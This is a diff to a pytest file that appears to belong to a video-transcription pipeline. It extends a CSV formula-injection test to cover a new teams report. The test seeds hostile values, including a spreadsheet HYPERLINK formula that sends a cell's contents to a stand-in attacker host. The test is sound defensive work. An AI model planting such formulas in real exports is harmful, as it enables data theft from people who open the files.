@@ -17,6 +17,7 @@ from pathlib import Path
 import click
 import pytest
 from click.testing import CliRunner
+from sqlalchemy import update
 
 from conftest import ROOT
 from pipeline import clock
@@ -25,6 +26,7 @@ from pipeline.flagging.windows import group_flags
 from pipeline.nightly.report import COLUMNS
 from pipeline.records import AudioStream, Flag, MediaProbe, Segment, Transcription, Word
 from pipeline.store import Store, open_store
+from pipeline.store import schema as db
 from pipeline.store.exports import FORMULA_STARTS, safe_cell
 
 DAY = date(2026, 11, 27)
@@ -39,7 +41,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 #: The modules that write CSV (through pipeline.store.exports.write_csv), and how this test
 #: runs each. A writer added anywhere else fails test_every_csv_writer_is_run_here.
 WRITERS = {"pipeline/cli/batch.py": "bwv export KIND --format csv",
-           "pipeline/nightly/report.py": "bwv report"}
+           "pipeline/nightly/report.py": "bwv report",
+           "pipeline/nightly/teams.py": "bwv report --teams"}
 #: Columns that carry outside text, per file: each must hold an escaped hostile value.
 HOSTILE_COLUMNS = {
     "export flags": ("source", "category", "family", "rubric", "text", "context", "speaker",
@@ -50,7 +53,11 @@ HOSTILE_COLUMNS = {
     "flags_by_category.csv": ("category", "family"),
     "quarantine_reasons.csv": ("reason",),
     "runs.csv": ("executor", "device", "model"),
+    "teams.csv": ("team",),
 }
+#: Files whose rows may all be left out here (the team picture's categories: the hostile
+#: flags are in no practice category); their cells are still checked for formulas.
+MAYBE_EMPTY = {"team_categories.csv"}
 #: Report files with nothing from outside in them.
 INSIDE_ONLY = {"summary.csv", "review_items.csv", "audit_head.csv"}
 
@@ -110,6 +117,12 @@ def hostile_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Store:
         flags = [Flag(_hostile(i), _hostile(i + 1), 1.0, 2.0, _hostile(i + 2), _hostile(i + 3),
                       _hostile(i + 4), _hostile(i + 5), 3, speaker=_hostile(i + 6))]
         store.save_flags(media_id, flags, group_flags(flags, duration_s=60.0))
+    # The six files are one team's (a hostile name), six officers', reviewed: the team picture.
+    store.put_metadata([{"sha256": hashlib.sha256(name.encode()).hexdigest(), "team": "=HYP team",
+                         "officer_id": f"45{i}", "source": f"m.csv:{i}"}
+                        for i, name in enumerate(NAMES)], actor="test", manifest="m.csv")
+    with store.session() as s:
+        s.execute(update(db.ReviewItem).values(status="reviewed", reviewed_at=NOON))
     store.record_unreadable("/inbox", "=link.mp4", "@symlink refused")
     store.finish_run(run, files=len(NAMES) + 1, done=len(NAMES), quarantined=1, audio_s=360.0,
                      elapsed_s=30.0)
@@ -161,8 +174,12 @@ def test_no_csv_bwv_writes_holds_a_formula(hostile_store: Store, tmp_path: Path)
                                       "-o", str(tmp_path / "report")])
     assert result.exit_code == 0, result.output
     written |= {f"{key}.csv": tmp_path / "report" / f"{key}.csv" for key in COLUMNS}
+    result = CliRunner().invoke(cli, [*base, "report", "--teams", "--date", DAY.isoformat(),
+                                      "-o", str(tmp_path / "teams")])
+    assert result.exit_code == 0, result.output
+    written |= {p.name: p for p in (tmp_path / "teams").glob("*.csv")}
     # A new CSV must be listed above: with the columns that carry outside text, or as having none.
-    assert set(HOSTILE_COLUMNS) <= set(written) <= set(HOSTILE_COLUMNS) | INSIDE_ONLY
+    assert set(HOSTILE_COLUMNS) <= set(written) <= set(HOSTILE_COLUMNS) | INSIDE_ONLY | MAYBE_EMPTY
 
     formulas = [(what, cell) for what, path in written.items() for line in _lines(path)
                 for cell in line if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
